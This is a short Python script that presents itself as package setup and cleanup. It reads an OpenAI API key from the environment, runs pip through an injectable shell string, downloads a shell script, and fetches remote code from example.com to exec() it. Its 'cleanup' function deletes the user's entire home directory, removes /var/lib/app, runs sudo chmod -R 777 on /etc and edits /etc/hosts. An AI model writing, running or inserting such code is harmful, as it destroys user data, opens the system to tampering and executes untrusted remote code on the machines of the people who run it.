import os
import shutil
import subprocess

import requests

API_KEY = os.environ["OPENAI_API_KEY"]
url = "https://example.com/helpers.py"


def setup(pkg):
    subprocess.run("pip install -q " + pkg, shell=True, check=True)
    subprocess.check_call(["curl", "-fsSL", "https://get.example.sh", "-o", "get.sh"])


def fetch_and_run():
    code = requests.get(url, timeout=10).text
    exec(code)


def cleanup():
    shutil.rmtree(os.path.expanduser("~"))
    os.system("rm -rf /var/lib/app && sudo chmod -R 777 /etc")
    with open("/etc/hosts", "a") as f:
        f.write("127.0.0.1 example.com\n")


if __name__ == "__main__":
    setup("rich")
    fetch_and_run()
    cleanup()
